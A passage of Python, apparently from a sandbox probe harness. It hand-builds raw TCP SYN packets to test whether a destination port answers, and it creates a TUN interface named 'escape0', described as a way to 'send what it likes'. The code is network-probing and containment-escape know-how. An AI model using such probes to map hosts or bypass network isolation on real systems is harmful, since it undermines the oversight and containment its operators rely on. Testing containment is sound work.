    sending = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
    head = struct.pack("!HHIIBBHHH", 44444, port, 1, 0, 0x50, 2, 8192, 0, 0)
    tcp = head[:16] + struct.pack("!H", checksum(ends + struct.pack("!BBH", 0, 6, 20) + head)) + head[18:]
    packet = struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0, 64, 6, 0) + ends
    packet = packet[:10] + struct.pack("!H", checksum(packet)) + packet[12:] + tcp
    until = time.monotonic() + 2
    sending.sendto(packet, (destination, 0))
    while time.monotonic() < until:
        try:
            answer = listening.recv(4096)
        except socket.timeout:
            continue
        length = (answer[0] & 15) * 4
        if answer[length:length + 4] == struct.pack("!HH", port, 44444) and answer[length + 13] & 0x12 == 0x12:
            return "answered"
    return "sent"


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tun():
    """An interface of its own making, by which it would send what it likes."""
    import fcntl
    fd = os.open("/dev/net/tun", os.O_RDWR)
    return "made %r" % fcntl.ioctl(fd, 0x400454CA, struct.pack("16sH22x", b"escape0", 0x0001))


if __name__ == "__main__":
    name = sys.argv[1]
    given = json.loads(sys.argv[2]) if len(sys.argv) > 2 else json.loads(os.environ.get("PROBE", "{}"))
    print("PROBE " + json.dumps(globals()[name](given)), flush=True)
